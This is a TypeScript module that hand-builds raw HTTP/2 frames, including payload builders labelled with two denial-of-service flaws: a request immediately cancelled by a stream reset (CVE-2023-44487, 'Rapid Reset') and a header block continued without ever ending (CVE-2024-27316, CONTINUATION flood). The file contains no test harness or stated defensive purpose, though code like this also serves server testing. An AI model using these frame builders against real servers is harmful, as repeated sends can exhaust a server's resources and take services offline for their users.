/** Frames of HTTP/2 as no library sends them (RFC 9113 section 4.1, and 6 for each kind). */
const TYPE = { headers: 1, reset: 3, settings: 4, ping: 6, continuation: 9 } as const;

const END_STREAM = 0x1;
const END_HEADERS = 0x4;

export const PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');

function frame(type: keyof typeof TYPE, flags: number, stream: number, payload: Buffer): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head.writeUInt8(TYPE[type], 3);
  head.writeUInt8(flags, 4);
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** Of a GET of the front page, in HPACK (RFC 7541): three names and values of its table, and one literal. @param name of the site, up to 126 letters */
const request = (name: string) =>
  Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, name.length]), Buffer.from(name, 'latin1')]);

const EMPTY = Buffer.alloc(0);

export const noSettings = (): Buffer => frame('settings', 0, 0, EMPTY);

/** One setting that means nothing to anybody: its receiver has to acknowledge it. */
export const aSetting = (): Buffer => frame('settings', 0, 0, Buffer.from([0xfa, 0xfa, 0, 0, 0, 0]));

export const ping = (): Buffer => frame('ping', 0, 0, Buffer.alloc(8));

/** A request that is taken back at once (CVE-2023-44487). */
export const requestAndReset = (stream: number, name: string): Buffer =>
  Buffer.concat([
    frame('headers', END_STREAM | END_HEADERS, stream, request(name)),
    frame('reset', 0, stream, Buffer.from([0, 0, 0, 8])),
  ]);

/** A request whose head has only begun. */
export const requestBegun = (stream: number, name: string): Buffer =>
  frame('headers', END_STREAM, stream, request(name));

/** More of a head, and not its end (CVE-2024-27316). */
export const moreOfHead = (stream: number): Buffer =>
  frame('continuation', 0, stream, Buffer.from([0x00, 0x01, 0x78, 0x01, 0x79]));
